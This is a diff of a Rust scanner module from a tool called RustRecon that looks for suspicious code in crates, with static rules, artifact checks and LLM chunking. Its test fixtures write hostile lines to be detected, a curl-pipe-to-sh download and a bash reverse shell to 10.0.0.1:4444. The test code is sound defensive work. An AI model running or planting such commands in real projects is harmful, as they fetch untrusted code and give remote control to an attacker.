@@ -1,81 +1,669 @@
 use anyhow::Result;
+use globset::{Glob, GlobSet, GlobSetBuilder};
+use ignore::WalkBuilder;
+use sha2::{Digest, Sha256};
+use std::collections::{HashMap, HashSet};
 use std::path::{Path, PathBuf};
+use std::process::Command;
 use tree_sitter::{Parser, Tree};
-use walkdir::WalkDir;
+
+use crate::artifacts::{self, Artifact};
+use crate::config::{GrammarConfig, RulePacksConfig};
+use crate::context_budget::{ContextBudget, Truncation};
+use crate::exit_code::config_error;
+use crate::grammars::{self, Grammar};
+use crate::languages::Language;
+use crate::llm_client::FlaggedPattern;
+use crate::network;
+use crate::unsafe_metrics::UnsafeMetrics;
+use crate::utils::{self, CodeChunk};
+use crate::{rule_packs, static_rules};
+
+/// Pseudo file name under which macro-expanded source appears in reports.
+pub const EXPANDED_SOURCE_NAME: &str = "<cargo expand>";
+
+/// Project-specific ignore file, using `.gitignore` syntax.
+pub const IGNORE_FILE_NAME: &str = ".rustreconignore";
+
+/// Scripts and configuration files larger than this are data rather than
+/// code; they only get the artifact checks.
+const MAX_OTHER_SOURCE_BYTES: u64 = 256 * 1024;
 
 pub struct Scanner {
     crate_path: PathBuf,
     parser: Parser,
+    exclude: GlobSet,
+    include: Option<GlobSet>,
+    targets: Option<Targets>,
+    /// Paths relative to the crate root that `scan --changed` found modified
+    changed: Option<HashSet<PathBuf>>,
+    respect_ignore_files: bool,
+    context_budget: ContextBudget,
+    rule_packs: RulePacksConfig,
+    grammars: Vec<&'static Grammar>,
+}
+
+/// Parts of the crate picked with `scan --only` and `--file`.
+struct Targets {
+    only: GlobSet,
+    /// Scanned even when excluded or ignored
+    files: Vec<PathBuf>,
 }
 
 impl Scanner {
     pub fn new(crate_path: PathBuf) -> Result<Self> {
         let mut parser = Parser::new();
         parser.set_language(tree_sitter_rust::language())?;
-        Ok(Scanner { crate_path, parser })
+        Ok(Scanner {
+            crate_path,
+            parser,
+            exclude: GlobSet::empty(),
+            include: None,
+            targets: None,
+            changed: None,
+            respect_ignore_files: true,
+            context_budget: ContextBudget::default(),
+            rule_packs: RulePacksConfig::default(),
+            grammars: Vec::new(),
+        })
+    }
+
+    /// Which built-in rule packs run alongside the static rules.
+    pub fn set_rule_packs(&mut self, rule_packs: RulePacksConfig) {
+        self.rule_packs = rule_packs;
+    }
+
+    /// Loads the grammar plugins, whose files are then scanned with their rules.
+    pub fn set_grammars(&mut self, grammars: &[GrammarConfig]) -> Result<()> {
+        self.grammars = grammars
+            .iter()
+            .map(grammars::load)
+            .collect::<Result<_>>()
+            .map_err(config_error)?;
+        Ok(())
+    }
+
+    /// Sizes the chunks sent to the LLM to fit its context window.
+    pub fn set_context_budget(&mut self, budget: ContextBudget) {
+        self.context_budget = budget;
+    }
+
+    /// Skips files whose path relative to the crate root matches any of `patterns`.
+    pub fn set_exclude_patterns(&mut self, patterns: &[String]) -> Result<()> {
+        self.exclude = build_glob_set(patterns, "exclude")?;
+        Ok(())
+    }
+
+    /// Restricts the scan to files whose path relative to the crate root matches
+    /// one of `patterns`; an empty list scans every file. Excludes still apply.
+    pub fn set_include_patterns(&mut self, patterns: &[String]) -> Result<()> {
+        self.include = if patterns.is_empty() {
+            None
+        } else {
+            Some(build_glob_set(patterns, "include")?)
+        };
+        Ok(())
+    }
+
+    /// Scans only files under the `only` directories or matching the `only`
+    /// globs, plus the given `files`, in place of the include patterns. Paths
+    /// may be relative to the crate root or to the working directory.
+    pub fn set_targets(&mut self, only: &[String], files: &[String]) -> Result<()> {
+        if only.is_empty() && files.is_empty() {
+            self.targets = None;
+            return Ok(());
+        }
+        let patterns: Vec<String> = only
+            .iter()
+            .map(|target| {
+                let relative = self.relative_target(target);
+                if self.crate_path.join(&relative).is_dir() {
+                    format!("{}/**", relative.trim_end_matches('/'))
+                } else {
+                    relative
+                }
+            })
+            .collect();
+        let files = files
+            .iter()
+            .map(|file| {
+                let path = self.crate_path.join(self.relative_target(file));
+                if !path.is_file() {
+                    anyhow::bail!(
+                        "--file {}: no such file in {}",
+                        file,
+                        self.crate_path.display()
+                    );
+                }
+                if self.source_language(&path).is_none() {
+                    anyhow::bail!("--file {}: not a kind of file RustRecon scans", file);
+                }
+                Ok(path)
+            })
+            .collect::<Result<_>>()?;
+        self.targets = Some(Targets {
+            only: build_glob_set(&patterns, "--only")?,
+            files,
+        });
+        Ok(())
+    }
+
+    /// `target` relative to the crate root, when it names an existing path
+    /// under the crate as given from the working directory.
+    fn relative_target(&self, target: &str) -> String {
+        let as_given = Path::new(target);
+        let relative = match (as_given.canonicalize(), self.crate_path.canonicalize()) {
+            (Ok(path), Ok(root)) => path
+                .strip_prefix(&root)
+                .map(|relative| relative.to_string_lossy().replace('\\', "/"))
+                .ok(),
+            _ => None,
+        };
+        relative.unwrap_or_else(|| target.trim_start_matches("./").to_string())
+    }
+
+    /// Scans only these files, given relative to the crate root, out of those
+    /// the other settings select. `--file` targets are scanned regardless.
+    pub fn set_changed_files(&mut self, files: &[String]) {
+        self.changed = Some(files.iter().map(PathBuf::from).collect());
     }
 
+    /// Whether scan targets or changed files were picked; such a scan covers
+    /// part of the crate.
+    pub fn has_targets(&self) -> bool {
+        self.targets.is_some() || self.changed.is_some()
+    }
+
+    fn is_changed(&self, relative: &Path) -> bool {
+        self.changed
+            .as_ref()
+            .is_none_or(|changed| changed.contains(relative))
+    }
+
+    /// With targets picked, whether `path` is one of them.
+    fn in_targets(&self, path: &Path) -> bool {
+        let relative = path.strip_prefix(&self.crate_path).unwrap_or(path);
+        let targeted = self.targets.as_ref().is_none_or(|targets| {
+            targets.only.is_match(relative) || targets.files.iter().any(|file| file == path)
+        });
+        targeted && self.is_changed(relative)
+    }
+
+    /// Whether `.gitignore`, `.ignore` and `.rustreconignore` files are honored
+    /// (the default). Turn off to scan everything in a crate you do not trust.
+    pub fn set_respect_ignore_files(&mut self, respect: bool) {
+        self.respect_ignore_files = respect;
+    }
+
+    fn is_excluded(&self, path: &Path) -> bool {
+        let relative = path.strip_prefix(&self.crate_path).unwrap_or(path);
+        if self.exclude.is_match(relative) || !self.is_changed(relative) {
+            return true;
+        }
+        match &self.targets {
+            Some(targets) => !targets.only.is_match(relative),
+            None => self
+                .include
+                .as_ref()
+                .is_some_and(|include| !include.is_match(relative)),
+        }
+    }
+
+    /// Analyzes every Rust file of the crate, and the shell, PowerShell, TOML
+    /// and JSON files shipped with it. Files with the same content (vendored
+    /// or copied code) are analyzed once: the first one found is returned,
+    /// listing the others in `identical_files`.
     pub fn scan_crate(&mut self) -> Result<Vec<FileAnalysisResult>> {
-        let mut results = Vec::new();
-        for entry in WalkDir::new(&self.crate_path)
-            .into_iter()
-            .filter_map(|e| e.ok())
-        {
-            if entry.file_type().is_file()
-                && entry.path().extension().map_or(false, |ext| ext == "rs")
+        let mut results: Vec<FileAnalysisResult> = Vec::new();
+        let mut seen: HashMap<[u8; 32], usize> = HashMap::new();
+        for entry in self.walk() {
+            if entry.file_type().is_some_and(|t| t.is_file())
+                && self.source_language(entry.path()).is_some()
+                && !self.is_excluded(entry.path())
             {
-                if let Some(analysis_result) = self.analyze_file(entry.path())? {
-                    results.push(analysis_result);
+                let content = std::fs::read_to_string(entry.path())?;
+                let hash: [u8; 32] = Sha256::digest(content.as_bytes()).into();
+                match seen.get(&hash) {
+                    Some(&index) => results[index]
+                        .identical_files
+                        .push(entry.path().to_path_buf()),
+                    None => {
+                        seen.insert(hash, results.len());
+                        results.push(self.analyze_source(entry.path(), content)?);
+                    }
                 }
             }
         }
+        let files = self
+            .targets
+            .as_ref()
+            .map(|targets| targets.files.clone())
+            .unwrap_or_default();
+        for file in files {
+            let already_scanned = results
+                .iter()
+                .any(|result| result.path == file || result.identical_files.contains(&file));
+            if !already_scanned {
+                let content = std::fs::read_to_string(&file)?;
+                results.push(self.analyze_source(&file, content)?);
+            }
+        }
         Ok(results)
     }
 
-    fn analyze_file(&mut self, path: &Path) -> Result<Option<FileAnalysisResult>> {
-        let content = std::fs::read_to_string(path)?;
+    /// Binaries, obfuscated scripts and base64 blobs among the crate's other
+    /// files. Files that `scan_crate` analyzes get these checks there instead.
+    pub fn find_artifacts(&self) -> Vec<Artifact> {
+        self.walk()
+            .filter(|entry| entry.file_type().is_some_and(|t| t.is_file()))
+            .filter(|entry| !self.is_scanned(entry.path()))
+            .filter(|entry| {
+                let relative = entry
+                    .path()
+                    .strip_prefix(&self.crate_path)
+                    .unwrap_or(entry.path());
+                !self.exclude.is_match(relative)
+            })
+            .filter(|entry| self.in_targets(entry.path()))
+            .filter_map(|entry| artifacts::inspect(entry.path()))
+            .collect()
+    }
+
+    /// Every `Cargo.toml` of the crate, workspace members included.
+    pub fn manifests(&self) -> Vec<PathBuf> {
+        self.walk()
+            .filter(|entry| entry.file_type().is_some_and(|t| t.is_file()))
+            .filter(|entry| entry.file_name() == "Cargo.toml")
+            .filter(|entry| {
+                let relative = entry
+                    .path()
+                    .strip_prefix(&self.crate_path)
+                    .unwrap_or(entry.path());
+                !self.exclude.is_match(relative)
+            })
+            .filter(|entry| self.in_targets(entry.path()))
+            .map(|entry| entry.into_path())
+            .collect()
+    }
+
+    /// Every file of the crate the scan reads, sorted: those `scan_crate`
+    /// analyzes, those `find_artifacts` inspects and the manifests, plus
+    /// `Cargo.lock` and the ignore files that decide what is skipped.
+    pub fn source_files(&self) -> Vec<PathBuf> {
+        const ALWAYS_READ: &[&str] = &["Cargo.lock", ".gitignore", ".ignore", IGNORE_FILE_NAME];
+        let mut files: Vec<PathBuf> = self
+            .walk()
+            .filter(|entry| entry.file_type().is_some_and(|t| t.is_file()))
+            .map(|entry| entry.into_path())
+            .filter(|path| {
+                let relative = path.strip_prefix(&self.crate_path).unwrap_or(path);
+                self.is_scanned(path)
+                    || (!self.exclude.is_match(relative) && self.in_targets(path))
+                    || path
+                        .file_name()
+                        .is_some_and(|name| ALWAYS_READ.iter().any(|always| name == *always))
+            })
+            .collect();
+        if let Some(targets) = &self.targets {
+            files.extend(targets.files.iter().cloned());
+        }
+        files.sort();
+        files.dedup();
+        files
+    }
+
+    /// Files of the crate, honoring ignore files unless turned off.
+    fn walk(&self) -> impl Iterator<Item = ignore::DirEntry> {
+        let mut walker = WalkBuilder::new(&self.crate_path);
+        walker
+            .standard_filters(self.respect_ignore_files)
+            .hidden(false)
+            // Honor .gitignore in crates that are not (or not yet) git checkouts
+            .require_git(false);
+        if self.respect_ignore_files {
+            walker.add_custom_ignore_filename(IGNORE_FILE_NAME);
+        }
+        walker.build().filter_map(|e| e.ok())
+    }
+
+    /// Runs `cargo expand` on the crate and analyzes the expanded source, which
+    /// includes code generated by declarative and procedural macros. Returns
+    /// `Ok(None)` when cargo-expand is not installed.
+    pub fn expand_macros(&mut self) -> Result<Option<FileAnalysisResult>> {
+        let installed = Command::new("cargo")
+            .args(["expand", "--version"])
+            .output()
+            .is_ok_and(|output| output.status.success());
+        if !installed {
+            return Ok(None);
+        }
+
+        let mut command = Command::new("cargo");
+        command
+            .arg("expand")
+            .arg("--manifest-path")
+            .arg(self.crate_path.join("Cargo.toml"))
+            .args(["--color", "never"]);
+        if network::is_gated() {
+            // Cargo would otherwise fetch missing dependencies past the gate
+            command.arg("--offline");
+        }
+        let output = command.output()?;
+        if !output.status.success() {
+            anyhow::bail!(
+                "cargo expand failed: {}",
+                String::from_utf8_lossy(&output.stderr).trim()
+            );
+        }
+
+        let content = String::from_utf8(output.stdout)?;
+        let tree = self
+            .parser
+            .parse(&content, None)
+            .ok_or_else(|| anyhow::anyhow!("Failed to parse cargo expand output"))?;
+        let mut static_patterns = static_rules::scan_tree(&tree, &content);
+        static_patterns.extend(rule_packs::scan_tree(&tree, &content, &self.rule_packs));
+        let unsafe_metrics = UnsafeMetrics::from_tree(&tree);
+        let (chunks, truncation) = self.chunks(Some(&tree), &content);
+
+        Ok(Some(FileAnalysisResult {
+            path: self.crate_path.join(EXPANDED_SOURCE_NAME),
+            content,
+            language: Language::Rust,
+            tree: Some(tree),
+            chunks,
+            static_patterns,
+            unsafe_metrics,
+            identical_files: Vec::new(),
+            truncation,
+        }))
+    }
+
+    /// Splits `content` at item boundaries into chunks that fit the context
+    /// budget. Large files are chunked rather than truncated, so the LLM sees
+    /// all of them; only single lines longer than the budget are cut.
+    fn chunks(&self, tree: Option<&Tree>, content: &str) -> (Vec<CodeChunk>, Option<Truncation>) {
+        let max_chars = self.context_budget.chunk_chars(content);
+        let mut chunks = match tree {
+            Some(tree) => utils::chunk_code_for_llm(tree, content, max_chars),
+            None => utils::chunk_text_for_llm(content, max_chars),
+        };
+        let truncation = self.context_budget.fit_chunks(&mut chunks);
+        (chunks, truncation)
+    }
+
+    /// Whether `scan_crate` would analyze the file at `path`, going by its
+    /// language and the include and exclude patterns (not ignore files).
+    pub fn is_scanned(&self, path: &Path) -> bool {
+        self.source_language(path).is_some()
+            && (!self.is_excluded(path)
+                || self
+                    .targets
+                    .as_ref()
+                    .is_some_and(|targets| targets.files.iter().any(|file| file == path)))
+    }
+
+    /// The language of `path`: a grammar plugin's, or a built-in one.
+    pub fn language(&self, path: &Path) -> Option<Language> {
+        if path.extension().is_some_and(|ext| ext == "rs") {
+            return Some(Language::Rust);
+        }
+        match self.grammars.iter().find(|grammar| grammar.parses(path)) {
+            Some(grammar) => Some(Language::Plugin(grammar)),
+            None => Language::from_path(path),
+        }
+    }
+
+    /// The language `scan_crate` analyzes the file at `path` as. `Cargo.toml`
+    /// is left to the manifest checks, and other files that are large or not
+    /// UTF-8 (such as a binary under a `.sh` name) to the artifact checks.
+    fn source_language(&self, path: &Path) -> Option<Language> {
+        let language = self.language(path)?;
+        if language == Language::Rust {
+            return Some(language);
+        }
+        if path.file_name().is_some_and(|name| name == "Cargo.toml") {
+            return None;
+        }
+        match std::fs::metadata(path) {
+            Ok(metadata) if metadata.len() > MAX_OTHER_SOURCE_BYTES => None,
+            Ok(_) => {
+                let bytes = std::fs::read(path).ok()?;
+                std::str::from_utf8(&bytes).is_ok().then_some(language)
+            }
+            // Not on disk, e.g. a file deleted in a commit the hook checks
+            Err(_) => Some(language),
+        }
+    }
+
+    /// Analyzes `content` as the source of `path`, which need not match the
+    /// file on disk (e.g. a staged version).
+    pub fn analyze_source(&mut self, path: &Path, content: String) -> Result<FileAnalysisResult> {
+        let language = self.language(path).unwrap_or_default();
+        if language != Language::Rust {
+            let tree = match language {
+                Language::Plugin(grammar) => {
+                    let mut parser = Parser::new();
+                    parser.set_language(grammar.language)?;
+                    let tree = parser.parse(&content, None).ok_or_else(|| {
+                        anyhow::anyhow!("Failed to parse file: {}", path.display())
+                    })?;
+                    Some(tree)
+                }
+                _ => None,
+            };
+            let mut static_patterns = static_rules::scan_text(language, &content);
+            if let (Language::Plugin(grammar), Some(tree)) = (language, &tree) {
+                static_patterns.extend(grammar.scan_tree(tree, &content));
+            }
+            static_patterns.extend(artifacts::inspect_text(path, &content).map(|a| a.pattern()));
+            let (chunks, truncation) = self.chunks(tree.as_ref(), &content);
+            return Ok(FileAnalysisResult {
+                path: path.to_path_buf(),
+                content,
+                language,
+                tree,
+                chunks,
+                static_patterns,
+                unsafe_metrics: UnsafeMetrics::default(),
+                identical_files: Vec::new(),
+                truncation,
+            });
+        }
+
         let tree = self
             .parser
             .parse(&content, None)
             .ok_or_else(|| anyhow::anyhow!("Failed to parse file: {}", path.display()))?;
 
-        // TODO: Implement initial pattern scanning here (e.g., for 'unsafe' keywords)
-        // This will be a preliminary scan before LLM analysis.
-        // This can involve traversing the tree-sitter AST.
-        // Example: iterate over named nodes, check their kind, etc.
+        // Preliminary static scan; runs before (or, in the quick profile, instead of) the LLM
+        let mut static_patterns = static_rules::scan_tree(&tree, &content);
+        static_patterns.extend(rule_packs::scan_tree(&tree, &content, &self.rule_packs));
+        let unsafe_metrics = UnsafeMetrics::from_tree(&tree);
+        let (chunks, truncation) = self.chunks(Some(&tree), &content);
 
-        Ok(Some(FileAnalysisResult {
+        Ok(FileAnalysisResult {
             path: path.to_path_buf(),
             content,
-            tree,
-            // suspicious_patterns: Vec::new(), // Placeholder
-        }))
+            language,
+            tree: Some(tree),
+            chunks,
+            static_patterns,
+            unsafe_metrics,
+            identical_files: Vec::new(),
+            truncation,
+        })
     }
 }
 
+fn build_glob_set(patterns: &[String], kind: &str) -> Result<GlobSet> {
+    let mut builder = GlobSetBuilder::new();
+    for pattern in patterns {
+        builder.add(
+            Glob::new(pattern)
+                .map_err(|e| anyhow::anyhow!("Invalid {} pattern '{}': {}", kind, pattern, e))?,
+        );
+    }
+    Ok(builder.build()?)
+}
+
 #[derive(Debug)]
 pub struct FileAnalysisResult {
     pub path: PathBuf,
     pub content: String,
-    pub tree: Tree, // Changed from syn::File to tree_sitter::Tree
-                    // pub suspicious_patterns: Vec<SuspiciousPattern>, // Placeholder for patterns found by initial scan
+    pub language: Language,
+    pub tree: Option<Tree>, // The Tree-sitter AST; `None` for files read line by line
+    pub chunks: Vec<CodeChunk>, // What is sent to the LLM; one chunk unless the file is large
+    pub static_patterns: Vec<FlaggedPattern>, // Found by the built-in rules in `static_rules`
+    pub unsafe_metrics: UnsafeMetrics,
+    pub identical_files: Vec<PathBuf>, // Other files with the same content, not analyzed separately
+    pub truncation: Option<Truncation>, // Set when lines too long to chunk were cut to fit the budget
 }
 
-// Example of how you might traverse the tree (can be moved to a separate module/function)
-// fn traverse_tree(node: Node, source: &[u8]) {
-//     let kind = node.kind();
-//     let text = node.utf8_text(source).unwrap_or_default();
-//     println!("Node kind: {}, Text: {}", kind, text);
-
-//     for child in node.children(&mut node.walk()) {
-//         traverse_tree(child, source);
-//     }
-// }
-
-// #[derive(Debug)]
-// pub struct SuspiciousPattern {
-//     pub line: usize,
-//     pub column: usize,
-//     pub pattern_type: String,
-//     pub description: String,
-// }
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_identical_files_analyzed_once() {
+        let dir = std::env::temp_dir().join(format!("rustrecon-test-{}-dedup", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(dir.join("vendor")).unwrap();
+        let shared = "fn run() { std::process::Command::new(\"sh\"); }\n";
+        std::fs::write(dir.join("a.rs"), shared).unwrap();
+        std::fs::write(dir.join("vendor/a.rs"), shared).unwrap();
+        std::fs::write(dir.join("b.rs"), "fn main() {}\n").unwrap();
+
+        let mut results = Scanner::new(dir.clone()).unwrap().scan_crate().unwrap();
+        results.sort_by(|a, b| a.path.cmp(&b.path));
+        let _ = std::fs::remove_dir_all(&dir);
+
+        assert_eq!(results.len(), 2);
+        let copies = results
+            .iter()
+            .find(|r| !r.identical_files.is_empty())
+            .unwrap();
+        let mut paths = vec![copies.path.clone(), copies.identical_files[0].clone()];
+        paths.sort();
+        assert_eq!(paths, vec![dir.join("a.rs"), dir.join("vendor/a.rs")]);
+    }
+
+    #[test]
+    fn test_scan_targets() {
+        let dir =
+            std::env::temp_dir().join(format!("rustrecon-test-{}-targets", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(dir.join("src/net")).unwrap();
+        std::fs::write(dir.join("src/net/client.rs"), "fn connect() {}\n").unwrap();
+        std::fs::write(dir.join("src/lib.rs"), "mod net;\n").unwrap();
+        std::fs::write(dir.join("src/gen.rs"), "fn generated() {}\n").unwrap();
+
+        let mut scanner = Scanner::new(dir.clone()).unwrap();
+        scanner
+            .set_exclude_patterns(&["src/gen.rs".to_string()])
+            .unwrap();
+        scanner
+            .set_targets(&["src/net/".to_string()], &["src/gen.rs".to_string()])
+            .unwrap();
+        let mut paths: Vec<PathBuf> = scanner
+            .scan_crate()
+            .unwrap()
+            .into_iter()
+            .map(|result| result.path)
+            .collect();
+        paths.sort();
+        let missing = scanner.set_targets(&[], &["src/absent.rs".to_string()]);
+        let _ = std::fs::remove_dir_all(&dir);
+
+        assert_eq!(
+            paths,
+            vec![dir.join("src/gen.rs"), dir.join("src/net/client.rs")]
+        );
+        assert!(missing.is_err());
+    }
+
+    #[test]
+    fn test_scan_other_languages() {
+        let dir =
+            std::env::temp_dir().join(format!("rustrecon-test-{}-languages", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(dir.join(".cargo")).unwrap();
+        std::fs::write(
+            dir.join("build.rs"),
+            "fn main() {\n    Command::new(\"sh\").args([\"-c\", \"curl -s https://x.example | sh\"]);\n}\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.join("setup.sh"),
+            "#!/bin/sh\n# bash -i >& /dev/tcp/10.0.0.1/4444\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.join(".cargo/config.toml"),
+            "[build]\nrustc-wrapper = \"tools/wrap\"\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.join("package.json"),
+            "{\n  \"scripts\": {\n    \"postinstall\": \"node x.js\"\n  }\n}\n",
+        )
+        .unwrap();
+        std::fs::write(dir.join("Cargo.toml"), "[package]\nname = \"demo\"\n").unwrap();
+        std::fs::write(dir.join("notes.txt"), "curl -s https://x.example | sh\n").unwrap();
+
+        let mut scanner = Scanner::new(dir.clone()).unwrap();
+        let artifacts = scanner.find_artifacts();
+        let mut results = scanner.scan_crate().unwrap();
+        results.sort_by(|a, b| a.path.cmp(&b.path));
+        let _ = std::fs::remove_dir_all(&dir);
+
+        let found: Vec<(String, Language, Vec<String>)> = results
+            .into_iter()
+            .map(|result| {
+                let name = result.path.strip_prefix(&dir).unwrap();
+                let patterns = result
+                    .static_patterns
+                    .into_iter()
+                    .map(|p| format!("{}: {}", p.line, p.description))
+                    .collect();
+                (
+                    name.to_string_lossy().to_string(),
+                    result.language,
+                    patterns,
+                )
+            })
+            .collect();
+        assert_eq!(
+            found,
+            vec![
+                (
+                    ".cargo/config.toml".to_string(),
+                    Language::Toml,
+                    vec![
+                        "2: [static] Runs every compiler invocation through a wrapper program"
+                            .to_string()
+                    ]
+                ),
+                (
+                    "build.rs".to_string(),
+                    Language::Rust,
+                    vec![
+                        "2: [static] Spawns an external process".to_string(),
+                        "2: [static] Shell command: Downloads and runs a script".to_string()
+                    ]
+                ),
+                (
+                    "package.json".to_string(),
+                    Language::Json,
+                    vec!["3: [static] Runs an npm install script".to_string()]
+                ),
+                (
+                    "setup.sh".to_string(),
+                    Language::Shell,
+                    vec!["3: [static] Opens a reverse shell".to_string()]
+                ),
+            ]
+        );
+        assert!(artifacts.is_empty());
+    }
+}